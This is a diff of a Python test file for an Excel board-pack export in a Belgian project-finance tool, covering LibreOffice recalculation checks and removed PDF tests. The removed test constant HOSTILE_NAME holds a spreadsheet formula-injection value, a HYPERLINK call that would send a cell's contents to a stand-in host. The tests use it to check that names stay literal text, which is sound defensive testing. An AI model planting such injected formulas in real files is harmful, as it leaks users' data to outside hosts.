@@ -1,5 +1,5 @@
-"""igemo_fin.exports.boardpack: the Excel pack recalculated by LibreOffice finds the engine's figures; the PDF
-renders to non-blank A4 pages with the Dutch texts, the project names and Belgian amounts.
+"""igemo_fin.exports.boardpack_xlsx and boardpack_project_sheet: the Excel pack recalculated by LibreOffice
+finds the engine's figures.
 
 LibreOffice is driven headless with its own throw-away profile set to "always recalculate on load",
 and the pack's cached formula results are stripped first: every number compared below was computed
@@ -8,7 +8,6 @@ by LibreOffice from the formulas, not copied from the engine.
 
 from __future__ import annotations
 
-import datetime as dt
 import io
 import math
 import re
@@ -16,85 +15,27 @@ import shutil
 import subprocess
 import zipfile
 from dataclasses import replace
-from pathlib import Path
 
-import numpy as np
 import openpyxl
 import pandas as pd
 import pytest
 
-from conftest import DEMO_WORKBOOK, build_sheets, flat_credit, flows, project, thresholds
-from igemo_fin.exports.boardpack import (KEY_FIGURE_CELLS, SUMMARY_SHEET, VERDICT_SHEET, board_pack_pdf, board_pack_xlsx,
-                                 project_sheet_names)
+from conftest import HOSTILE_NAME
+from igemo_fin.exports.boardpack_xlsx import (KEY_FIGURE_CELLS, SUMMARY_SHEET, VERDICT_SHEET, board_pack_xlsx,
+                                              project_sheet_names)
 from igemo_fin.valuation.rules import VERDICTS
 from igemo_fin.valuation.evaluate import evaluate
-from igemo_fin.fmt import eur
-from igemo_fin.inputs.workbook import read_workbook
-from igemo_fin.exports.workbook_writer import workbook_bytes
 
 SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
-PDFTOPPM = shutil.which("pdftoppm")
-PDFTOTEXT = shutil.which("pdftotext")
 needs_soffice = pytest.mark.skipif(
     SOFFICE is None, reason="LibreOffice is not installed (Debian: apt-get install libreoffice-calc-nogui)")
-needs_poppler = pytest.mark.skipif(
-    PDFTOPPM is None or PDFTOTEXT is None, reason="poppler-utils is not installed (pdftoppm, pdftotext)")
 
 MONEY_FIGURES = [k for k in KEY_FIGURE_CELLS if k not in ("irr_full_life", "margin_pct")]
-HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"klik") <b>Oud & Nieuw</b>'
-
-
-# --------------------------------------------------------------------------- portfolios
-
-def allocated_portfolio():
-    """Four projects over 2018-2030, valued on 1/1/2024, with actual interest for 2020-2023.
-
-    - A: buys in 2019-2020, sells 2021-2027 (a plain IRR).
-    - B: a loss maker (negative IRR) running across the actual-interest years.
-    - C'1 (a quote in the code, so in the sheet reference): costs only, no IRR; its name is a
-      formula and markup, its municipality starts with '@'.
-    - D: finished in 2022.
-    2020 and 2024 are leap years (366 days); 2022's actual interest is 0.37 off whole euros.
-    """
-    V = 2024
-    sheets = build_sheets(
-        [project("A", startjaar=2019, eindjaar=2027),
-         project("B", startjaar=2020, eindjaar=2029, bestemming_zeker="nee", marktwaarde_huidige_staat=900_000),
-         project("C'1", naam=HOSTILE_NAME, gemeente="@Mechelen", startjaar=2021, eindjaar=2026),
-         project("D", status="afgerond", startjaar=2018, eindjaar=2022)],
-        flows(("A", "prognose", 2019, "verwerving", 2_000_000), ("A", "prognose", 2020, "infrastructuur", 1_500_000),
-              *[("A", "prognose", y, "verkoop", 700_000) for y in range(2021, 2028)],
-              ("B", "prognose", 2020, "verwerving", 3_000_000), ("B", "prognose", 2022, "studies", 250_000),
-              ("B", "prognose", 2024, "infrastructuur", 800_000),
-              *[("B", "prognose", y, "verkoop", 650_000) for y in range(2025, 2030)],
-              ("B", "prognose", 2027, "subsidies", 100_000),
-              ("C'1", "prognose", 2021, "verwerving", 400_000), ("C'1", "prognose", 2023, "studies", 60_000),
-              ("C'1", "prognose", 2026, "overige_kosten", 30_000),
-              ("D", "prognose", 2018, "verwerving", 900_000), ("D", "prognose", 2019, "infrastructuur", 300_000),
-              ("D", "prognose", 2021, "verkoop", 800_000), ("D", "prognose", 2022, "verkoop", 600_000)),
-        credit=flat_credit(2015, 2035, rate=3.0, rates={2022: 1.2, 2023: 4.1, 2024: 3.9, 2025: 3.6},
-                           actual={2020: 130_000, 2021: 180_500.25, 2022: 96_000.37, 2023: 301_234.56}),
-        drempels=thresholds(min_irr_pct=4.0),
-        instellingen=pd.DataFrame({"parameter": ["waarderingsjaar", "eigen_vermogen"], "waarde": [V, 5_000_000]}),
-    )
-    portfolio = read_workbook(workbook_bytes(sheets), filename="toegerekend.xlsx")
-    return portfolio, evaluate(portfolio)
-
-
-@pytest.fixture(scope="module")
-def demo():
-    portfolio = read_workbook(DEMO_WORKBOOK)
-    return portfolio, evaluate(portfolio)
-
-
-@pytest.fixture(scope="module")
-def allocated():
-    return allocated_portfolio()
 
 
 @pytest.fixture(scope="module", params=["demo", "allocated"])
-def case(request, demo, allocated):
-    return {"demo": demo, "allocated": allocated}[request.param]
+def case(request, pack_demo, pack_allocated):
+    return {"demo": pack_demo, "allocated": pack_allocated}[request.param]
 
 
 # --------------------------------------------------------------------------- LibreOffice
@@ -195,8 +136,8 @@ class TestWorkbookLayout:
             irr = sheet[KEY_FIGURE_CELLS["irr_full_life"]].value
             assert irr == "geen" if math.isnan(f["irr_full_life"]) else irr == pytest.approx(f["irr_full_life"])
 
-    def test_allocated_interest_is_a_value_with_a_note(self, allocated):
-        portfolio, ev = allocated
+    def test_allocated_interest_is_a_value_with_a_note(self, pack_allocated):
+        portfolio, ev = pack_allocated
         book = openpyxl.load_workbook(io.BytesIO(board_pack_xlsx(portfolio, ev)))
         sheet = book["A"]
         rows = {sheet.cell(r, 1).value: r for r in range(1, sheet.max_row + 1)
@@ -209,8 +150,8 @@ class TestWorkbookLayout:
             assert sheet.cell(rows[year], 10).data_type == "f"
             assert sheet.cell(rows[year], 10).comment is None
 
-    def test_hostile_texts_are_text(self, allocated):
-        portfolio, ev = allocated
+    def test_hostile_texts_are_text(self, pack_allocated):
+        portfolio, ev = pack_allocated
         book = openpyxl.load_workbook(io.BytesIO(board_pack_xlsx(portfolio, ev)))
         found = []
         for sheet in book.worksheets:
@@ -280,7 +221,7 @@ class TestLibreOfficeRecalculation:
         totals = ev.portfolio_totals()
         sheet = book[SUMMARY_SHEET]
         values = {sheet.cell(r, 1).value: sheet.cell(r, 2).value for r in range(1, 30)}
-        from igemo_fin.exports.boardpack import VERDICT_MEANING, VERDICT_WORDS
+        from igemo_fin.exports.boardpack_content import VERDICT_MEANING, VERDICT_WORDS
         for verdict in VERDICTS:
             assert values[f"{VERDICT_WORDS[verdict]}: {VERDICT_MEANING[verdict]}"] == totals["verdict_counts"][verdict]
         V = ev.valuation_year
@@ -299,9 +240,9 @@ class TestLibreOfficeRecalculation:
         active = ev.figures[ev.figures["status"] == "actief"]
         assert listed == dict(zip(active["project_code"], active["verdict"]))
 
-    def test_changing_a_cash_flow_moves_the_figures(self, allocated, recalc):
+    def test_changing_a_cash_flow_moves_the_figures(self, pack_allocated, recalc):
         """The audit use: change a future sale on the sheet and the NPV, result and summary follow."""
-        portfolio, ev = allocated
+        portfolio, ev = pack_allocated
         V, r = ev.valuation_year, ev.discount_rate_pct / 100
         book = openpyxl.load_workbook(io.BytesIO(board_pack_xlsx(portfolio, ev)))
         sheet = book["A"]
@@ -319,114 +260,12 @@ class TestLibreOfficeRecalculation:
             ev.portfolio_totals()["npv_forward_active"] + npv - a["npv_forward"], abs=0.01)
 
 
-# --------------------------------------------------------------------------- PDF
-
-@pytest.fixture(scope="module")
-def demo_pdf(demo, tmp_path_factory):
-    portfolio, ev = demo
-    folder = tmp_path_factory.mktemp("pdf")
-    path = folder / "pack.pdf"
-    path.write_bytes(board_pack_pdf(portfolio, ev, made_on=dt.date(2026, 1, 15)))
-    return portfolio, ev, path
-
-
-def pdf_text(path: Path) -> str:
-    done = subprocess.run([PDFTOTEXT, str(path), "-"], capture_output=True, text=True, timeout=60,
-                          check=True)
-    return done.stdout.replace("\u00a0", " ")
-
-
-def flat(text: str) -> str:
-    return re.sub(r"\s+", " ", text)
-
-
-def render(path: Path, resolution: int = 40) -> list[Path]:
-    subprocess.run([PDFTOPPM, "-r", str(resolution), "-png", str(path), str(path.with_suffix(""))], check=True,
-                   timeout=120)
-    return sorted(path.parent.glob(path.stem + "-*.png"))
-
-
-@needs_poppler
-class TestPdf:
-    def test_pages_render_and_none_is_blank(self, demo_pdf):
-        from PIL import Image
-
-        _, ev, path = demo_pdf
-        pages = render(path)
-        active = int((ev.figures["status"] == "actief").sum())
-        assert len(pages) >= 4 + active  # cover, summary, verdicts, one per active project, annex
-        for page in pages:
-            with Image.open(page) as image:
-                width, height = image.size
-                assert height / width == pytest.approx(297 / 210, rel=0.01), "not A4 portrait"
-                pixels = np.asarray(image.convert("L"))
-            inked = (pixels < 200).mean()
-            assert inked > 0.003, f"{page.name} looks blank ({inked:.2%} inked)"
-
-    def test_page_numbers(self, demo_pdf):
-        _, _, path = demo_pdf
-        text = pdf_text(path)
-        pages = text.count("\f") + (0 if text.endswith("\f") else 1)
-        for n in range(1, pages + 1):
-            assert f"pagina {n} van {pages}" in text
-
-    def test_dutch_texts_names_and_belgian_amounts(self, demo_pdf):
-        portfolio, ev, path = demo_pdf
-        text = flat(pdf_text(path))
-        for phrase in ("Bestuursdossier", "Financiële risico's van de projectportefeuille", "1 januari 2026",
-                       "Opgemaakt op 15/01/2026", "Samenvatting van de portefeuille", "Oordeel per actief project",
-                       "Waarom dit oordeel", "Kerncijfers", "Contante waarde van wat nog komt",
-                       "Drempels van het beslissingskader", "Afgeronde en stopgezette projecten"):
-            assert phrase in text, phrase
-        for p in ev.figures.itertuples():
-            assert p.naam in text, p.naam
-        # every fired rule's sentence, word for word
-        for sentence in ev.rules.loc[ev.rules["fired"], "sentence"]:
-            assert flat(sentence) in text, sentence
-        # amounts the Belgian way: '€ 32.809.781', never '32,809,781' or '32809781.85'
-        total = ev.portfolio_totals()["npv_forward_active"]
-        assert eur(total) in text
-        assert re.search(r"€ -?\d{1,3}(\.\d{3})+\b", text)
-        assert not re.search(r"\d{1,3}(,\d{3}){2,}", text)
-        assert "2,85 %" in text
-
-    def test_hostile_names_are_printed_literally(self, allocated, tmp_path):
-        portfolio, ev = allocated
-        path = tmp_path / "hostile.pdf"
-        path.write_bytes(board_pack_pdf(portfolio, ev))
-        text = flat(pdf_text(path))
-        assert flat(HOSTILE_NAME) in text  # the markup is shown, not interpreted
-        assert "@Mechelen" in text
-        assert len(render(path, resolution=20)) > 1
-
-
-def test_pdf_is_a4_and_deterministic(allocated):
-    portfolio, ev = allocated
-    first = board_pack_pdf(portfolio, ev, made_on=dt.date(2026, 1, 15))
-    assert first.startswith(b"%PDF-")
-    assert board_pack_pdf(portfolio, ev, made_on=dt.date(2026, 1, 15)) == first
-    assert b"/MediaBox [ 0 0 595.2756 841.8898 ]" in first
-
-
-def test_colours_match_the_dashboard():
-    from igemo_fin.exports import boardpack
-    from ui import style
-
-    assert boardpack.VERDICT_COLOURS == style.VERDICT_COLOURS
-    assert boardpack.VERDICT_SYMBOLS == style.VERDICT_SYMBOLS
-    assert boardpack.VERDICT_WORDS == style.VERDICT_WORDS
-    assert boardpack.VERDICT_MEANING == style.VERDICT_MEANING
-    assert boardpack.CATEGORY_COLOURS == style.CATEGORY_COLOURS
-    assert boardpack.CATEGORY_WORDS == style.CATEGORY_WORDS
-
-
-def test_project_without_flows(allocated):
-    """An active project without any forecast still gets a sheet (values, no formulas) and a PDF section."""
-    portfolio, _ = allocated
+def test_project_without_flows(pack_allocated):
+    """An active project without any forecast still gets a sheet: values, no formulas."""
+    portfolio, _ = pack_allocated
     extra = portfolio.projects.iloc[[0]].assign(project_code="LEEG", naam="Leeg project", status="actief")
     bare = replace(portfolio, projects=pd.concat([portfolio.projects, extra], ignore_index=True))
     ev = evaluate(bare)
     book = openpyxl.load_workbook(io.BytesIO(board_pack_xlsx(bare, ev)))
     assert book["LEEG"][KEY_FIGURE_CELLS["npv_forward"]].value == 0
     assert book["LEEG"][KEY_FIGURE_CELLS["npv_forward"]].data_type == "n"
-    assert board_pack_pdf(bare, ev).startswith(b"%PDF-")
